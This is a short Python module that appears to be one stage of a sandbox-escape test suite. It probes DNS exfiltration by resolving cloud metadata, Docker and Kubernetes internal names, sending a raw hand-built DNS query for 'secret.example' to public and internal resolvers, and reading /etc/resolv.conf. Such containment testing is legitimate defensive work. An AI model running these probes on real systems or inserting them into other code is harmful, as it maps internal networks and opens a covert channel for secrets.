"""Asks for names, the way secrets are carried out over DNS: by the resolver, by hand, and of the local stub."""

import socket

from attack_stage import attempts, must, read

AT = "start"


def resolve(name):
    return socket.getaddrinfo(name, 443)


def ask(server):
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.3)
        sock.connect((server, 53))
        sock.send(question)
        return sock.recv(512)


def servers():
    lines = read("/etc/resolv.conf", 4096).splitlines()
    return {line.split()[1] for line in lines if line.startswith(b"nameserver")}


def attack():
    names = ("secret.example", "metadata.google.internal", "host.docker.internal", "kubernetes.default.svc", "db")
    return {
        **attempts(resolve, *names),
        **attempts(ask, "8.8.8.8", "127.0.0.1", "127.0.0.53", "127.0.0.11", "10.96.0.10"),
        "name servers of the host": must(servers() - {b"127.0.0.1"}, servers()),
    }
